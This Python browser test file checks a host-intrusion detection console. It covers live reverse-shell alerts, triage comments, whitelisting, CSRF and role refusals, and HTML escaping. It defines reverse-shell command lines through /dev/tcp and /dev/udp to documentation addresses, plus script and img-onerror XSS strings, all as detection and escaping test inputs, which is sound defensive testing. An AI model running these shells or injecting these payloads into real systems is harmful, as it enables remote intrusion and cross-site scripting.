"""Alerts in a real browser: a reverse-shell execve record from an enrolled agent raises an alert
that appears live in the open list; triage with comments; whitelist from alert (then the same
event no longer raises); hostile command lines stay text; viewers and forged posts are refused."""

from __future__ import annotations

import json
import time
import uuid
from contextlib import closing, contextmanager

import pytest

from elkeid import datatypes
from elkeid.proto import transfer_pb2
from elkeid.server.store import Store
from tests._support import wait_until

from ._agents import ScriptedAgent

pytestmark = pytest.mark.browser

SCRIPT = "<script>alert(1)</script>"
ATTR = '"><img src=x onerror=alert(1)>'
SHELL = f"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 {SCRIPT} {ATTR}"


def execve(pid: str, ppid: str, exe: str, argv: str, **more: str) -> transfer_pb2.EncodedRecord:
    fields = {"pid": pid, "ppid": ppid, "exe": exe, "argv": argv, "comm": exe.rsplit("/", 1)[-1], "uid": "1000",
              "username": "deploy", **more}  # fmt: skip
    payload = transfer_pb2.Payload(fields=fields)
    return transfer_pb2.EncodedRecord(data_type=datatypes.EXECVE, timestamp=int(time.time()),
                                      data=payload.SerializeToString())  # fmt: skip


def parent_and_shell(argv: str = SHELL, pid: str = "990") -> list[transfer_pb2.EncodedRecord]:
    return [execve("950", "1", "/usr/sbin/nginx", f"nginx: worker {ATTR}"),
            execve(pid, "950", "/usr/bin/bash", argv, pid_tree=f"{pid}.bash<950.nginx<1.systemd")]  # fmt: skip


def _user(server, role: str, password: str) -> str:
    name = f"{role}-{uuid.uuid4().hex[:8]}"
    out = server.cli("user", "add", name, "--role", role, "--password-stdin", input=password + "\n")
    assert out.returncode == 0, out.stderr
    return name


def alerts_of(server, aid: str) -> list[dict]:
    with server.api() as api:
        return api.get("/api/v1/alerts", params={"agent_id": aid}).json()["items"]


@contextmanager
def raised_and_open(server, open_tab, prefix: str, role: str):
    """An agent whose first batch raised an alert, and a tab logged in as a new user of ``role``."""
    aid = f"{prefix}-{uuid.uuid4()}"
    agent = ScriptedAgent(server, aid, hostname=prefix, records=parent_and_shell())
    name = _user(server, role, f"{role}-pass-1")
    try:
        [alert] = wait_until(lambda: alerts_of(server, aid), 30, message="the first alert")
        tab = open_tab(role)
        tab.login(name, f"{role}-pass-1")
        yield agent, alert, tab
    finally:
        agent.close()


def no_injected_markup(tab) -> None:
    page = tab.page
    assert page.evaluate("document.querySelectorAll('script').length") == 1  # console.js only
    assert page.evaluate("document.querySelectorAll('img').length") == 0
    assert page.evaluate("document.querySelectorAll('[onerror]').length") == 0


def test_an_alert_appears_live_and_is_triaged(server, open_tab):
    aid = f"alerts-live-{uuid.uuid4()}"
    agent = ScriptedAgent(server, aid, hostname="web-live", records=[])
    name = _user(server, "analyst", "analyst-pass-1")
    try:
        tab = open_tab("analyst")
        tab.login(name, "analyst-pass-1")
        page = tab.page
        tab.goto(f"/alerts?agent_id={aid}", "alerts list, empty, live")
        page.wait_for_selector("[data-live-state]:text('live')")
        assert page.locator("table.alerts tr[data-alert]").count() == 0

        agent.send(parent_and_shell())
        row = page.locator("table.alerts tr[data-alert]")
        row.first.wait_for(timeout=30_000)  # no reload: the live topic made the page re-read its list
        assert page.locator("[data-count-status='open'] b").text_content() == "1"
        assert row.locator(".alert-cmd code").text_content() == SHELL  # shown as text
        assert row.locator("a.rule-name").text_content() == "Reverse shell through /dev/tcp or /dev/udp"
        tab.snap("alert appeared live")
        agent.send([execve("990", "950", "/usr/bin/bash", SHELL)])
        page.wait_for_selector("table.alerts tr[data-alert] [data-alert-count]:text-is('2')", timeout=30_000)
        no_injected_markup(tab)

        tab.follow("table.alerts tr[data-alert] a.rule-name", "alert detail")
        assert page.locator("h1 .rule-name").text_content() == "Reverse shell through /dev/tcp or /dev/udp"
        assert page.locator('.event-fields tr[data-field="argv"] code').text_content() == SHELL
        tree = page.locator(".process-tree")
        assert tree.locator("li.trigger > .argv code").text_content() == SHELL
        assert tree.locator("li[data-pid='950'] > .argv code").text_content() == f"nginx: worker {ATTR}"
        # The shell's item is inside nginx's, which is inside systemd's.
        assert tree.locator("li[data-pid='1'] li[data-pid='950'] li[data-pid='990']").count() == 1
        assert page.locator("a.attack-id").get_attribute("href") == "https://attack.mitre.org/techniques/T1059/004/"
        assert page.locator(f'a.hostname[href="/hosts/{aid}"]').count() == 1
        no_injected_markup(tab)
        # The open alert page follows its count too.
        page.wait_for_selector("[data-live-state]:text('live')")
        agent.send([execve("990", "950", "/usr/bin/bash", SHELL)])
        page.wait_for_selector("dd[data-alert-count]:text-is('3')", timeout=30_000)

        page.fill("form.triage textarea[name=comment]", f"looking {SCRIPT}")
        tab.follow("form.triage button[value=acknowledged]", "acknowledged")
        assert page.locator("[data-alert-status]").first.text_content() == "acknowledged"
        page.fill("form.triage textarea[name=comment]", "a pentest, agreed with the owner")
        tab.follow("form.triage button[value=resolved]", "resolved")
        rows = page.locator("table.history tbody tr")
        assert rows.count() == 2
        assert rows.nth(0).locator("td.comment").text_content() == f"looking {SCRIPT}"
        assert [rows.nth(1).locator("td").nth(i).text_content() for i in (1, 2, 3, 4)] == [
            name, "acknowledged", "resolved", "a pentest, agreed with the owner"]  # fmt: skip
        assert page.locator("form.triage button").all_text_contents() == ["Re-open"]

        # A second tab still showing "resolved" gets a clear 409 once the first has re-opened it.
        other = open_tab("stale")
        other.login(name, "analyst-pass-1")
        alert_id = page.url.split("/alerts/")[1].split("?")[0]
        other.goto(f"/alerts/{alert_id}", "second tab")
        page.fill("form.triage textarea[name=comment]", "re-opening")
        tab.follow("form.triage button[value=open]", "re-opened")
        other.page.fill("form.triage textarea[name=comment]", "too late")
        other.follow("form.triage button[value=open]", "stale page refused")
        assert "Refused (409): this alert is open now, not resolved" in other.page.locator("#triage .error").text_content()
        # A form post without the page's CSRF token is refused, even for an analyst.
        status = page.evaluate(f"""async () => (await fetch('/alerts/{alert_id}/status', {{method: 'POST',
            headers: {{'Content-Type': 'application/x-www-form-urlencoded'}}, body: 'status=resolved'}})).status""")
        assert status == 403
        assert alerts_of(server, aid)[0]["status"] == "open"
        tab.errors = [e for e in tab.errors if "403" not in e]
        tab.assert_clean()
        other.errors = [e for e in other.errors if "409" not in e]
        other.assert_clean()
    finally:
        agent.close()


def test_whitelist_from_alert_silences_the_same_event(server, open_tab):
    with raised_and_open(server, open_tab, "alerts-wl", "analyst") as (agent, first, tab):
        aid, page = agent.agent_id, tab.page
        tab.goto(f"/alerts/{first['id']}", "alert before whitelisting")
        page.check('form.whitelist input[name=field][value="exe"]')
        page.check('form.whitelist input[name=field][value="argv"]')
        page.select_option("form.whitelist select[name=also]", "false_positive")
        page.fill("form.whitelist textarea[name=comment]", "the backup job's tunnel")
        tab.follow("form.whitelist button[type=submit]", "whitelisted")
        assert "The whitelist is in force." in page.locator(".notice").text_content()
        assert page.locator("[data-alert-status]").first.text_content() == "false positive"

        # The same event again: whitelisted. Then another shell: it raises (so the first was evaluated).
        agent.send(parent_and_shell())
        other = f"bash -i >& /dev/udp/198.51.100.9/53 0>&1 {SCRIPT}"
        agent.send([execve("991", "950", "/usr/bin/bash", other)])
        alerts = wait_until(lambda: (a := alerts_of(server, aid)) and len(a) == 2 and a, 30, message="the second alert")
        newest, oldest = alerts
        assert newest["event"]["argv"] == other and newest["count"] == 1
        assert oldest["id"] == first["id"] and oldest["count"] == 1 and oldest["status"] == "false_positive"
        tab.goto(f"/alerts?agent_id={aid}", "list after the whitelist")
        assert page.locator("table.alerts tr[data-alert]").count() == 2
        no_injected_markup(tab)
        tab.assert_clean()


def test_a_triage_made_by_another_server_reaches_the_open_alert_page(server, open_tab):
    # Another server on the same database writes to the store; nothing passes through this server.
    db_url = json.loads((server.data_dir / "server.json").read_text())["db"]
    with raised_and_open(server, open_tab, "alerts-elsewhere", "analyst") as (agent, alert, tab), \
            closing(Store(db_url, migrate=False)) as other_server:  # fmt: skip
        page = tab.page
        tab.goto(f"/alerts/{alert['id']}", "alert open before a triage elsewhere")
        page.wait_for_selector("[data-live-state]:text('live')")
        assert page.locator("[data-alert-status]").first.text_content() == "open"
        other_server.set_alert_status(alert["id"], "open", "acknowledged", by="carol", comment=f"seen {SCRIPT}")
        page.wait_for_selector("[data-alert-status]:text-is('acknowledged')", timeout=30_000)  # no reload
        assert page.locator("table.history tbody tr td.comment").first.text_content() == f"seen {SCRIPT}"
        tab.snap("triaged by another server, shown live")
        no_injected_markup(tab)
        tab.assert_clean()


def test_viewers_get_no_triage_controls_and_forged_posts_are_refused(server, open_tab):
    with raised_and_open(server, open_tab, "alerts-viewer", "viewer") as (agent, alert, tab):
        aid = agent.agent_id
        tab.goto(f"/alerts/{alert['id']}", "alert as a viewer")
        page = tab.page
        assert page.locator("#triage, #whitelist, textarea").count() == 0
        assert page.locator("form[method=post]").count() == 1  # only "Log out"
        assert page.locator('.event-fields tr[data-field="argv"] code').text_content() == SHELL
        # The page's own CSRF token does not make up for the role.
        status = page.evaluate(f"async () => (await elkeid.post('/alerts/{alert['id']}/status')).status")
        assert status == 403
        # Without the token even the form is refused before anything is read.
        status = page.evaluate(f"""async () => (await fetch('/alerts/{alert['id']}/status', {{method: 'POST',
            headers: {{'Content-Type': 'application/x-www-form-urlencoded'}}, body: 'status=acknowledged'}})).status""")
        assert status == 403
        tab.goto(f"/hosts/{aid}", "host page with its alerts")
        section = page.locator("section#alerts")
        assert section.locator("tr[data-alert]").count() == 1
        assert section.locator(".alert-cmd code").text_content() == SHELL
        no_injected_markup(tab)
        assert alerts_of(server, aid)[0]["status"] == "open"
        tab.errors = [e for e in tab.errors if "403" not in e]
        tab.assert_clean()
